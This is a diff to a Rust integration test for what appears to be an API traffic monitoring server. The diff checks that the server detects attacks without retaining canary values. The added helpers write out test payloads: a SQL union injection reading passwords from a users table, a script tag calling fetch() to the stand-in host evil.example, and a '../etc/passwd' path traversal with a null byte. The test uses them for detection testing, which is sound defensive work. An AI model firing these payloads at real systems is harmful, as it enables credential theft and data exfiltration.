@@ -56,11 +56,23 @@ fn no_value_stays_anywhere() {
         "log.level=trace",
     ];
     let server = Running::start(folder.path(), &args);
-    server.ingest("canary/1", &traffic());
+    server.ingest("canary/1", &(traffic() + &placed()));
     let told = all_answers(&server);
     let found = server.get("/api/v1/sensitive-data");
     let types = found["items"].as_array().unwrap().len();
     assert!(types >= 5, "what is not found proves nothing: {found}");
+    let seen = server.get("/api/v1/signals");
+    for class in ["sqli", "xss", "path-traversal"] {
+        let classes = seen["items"].as_array().unwrap();
+        let attacks = classes
+            .iter()
+            .find(|it| it["class"] == class)
+            .map(|it| &it["attacks"]);
+        assert!(
+            attacks.and_then(serde_json::Value::as_u64) >= Some(CANARIES.len() as u64),
+            "what is not seen proves nothing: {class}: {seen}"
+        );
+    }
     assert!(
         server.get("/api/v1/discoveries")["total"].as_u64() > Some(5),
         "{told}"
@@ -172,7 +184,35 @@ fn requests(name: &str, value: &str) -> Vec<serde_json::Value> {
         ));
     }
     all.push(heads(name, value));
+    all.extend(attacks(value));
     all
+}
+
+/// Payloads that carry it: in query, header, cookie and body.
+fn attacks(value: &str) -> [serde_json::Value; 2] {
+    let json_type = "application/json";
+    let union = format!("1' union select '{value}', password from users--");
+    let script = format!("<script>fetch('//evil.example/?c={value}')</script>");
+    let query = format!("/search?id={}&then={}", percent(&union), percent(&script));
+    let mut attack = of("GET", &query, json_type, String::new());
+    let headers = &mut attack["request"]["headers"];
+    headers["x-filter"] = json!(union);
+    headers["user-agent"] = json!(script);
+    headers["cookie"] = json!(format!("basket={}", percent(&union)));
+    let body = json!({ "filter": union, "deep": [{ "note": script }] });
+    [attack, of("POST", "/json", json_type, body.to_string())]
+}
+
+/// Payloads in paths and as names of members: a scan, which keeps nothing, shows places as they came.
+fn placed() -> String {
+    let of_value = |(_, value): &(&str, &str)| {
+        let path = format!("/files/..%2f..%2fetc%2fpasswd%00{}", percent(value));
+        let climb = of("GET", &path, "application/json", String::new());
+        let named = json!({ format!("1' union select '{value}', password from users--"): 1 });
+        let named = of("POST", "/json", "application/json", named.to_string());
+        format!("{climb}\n{named}\n")
+    };
+    CANARIES.iter().map(of_value).collect()
 }
 
 /// In headers and cookies of both messages, and in the answer.
@@ -215,6 +255,7 @@ pub fn all_answers(server: &Running) -> String {
         "/api/v1/endpoints?format=csv&missed=any",
         "/api/v1/sensitive-data",
         "/api/v1/discoveries?limit=1000",
+        "/api/v1/signals",
         "/api/v1/sources",
         "/api/v1/controls",
         "/api/v1/audit",
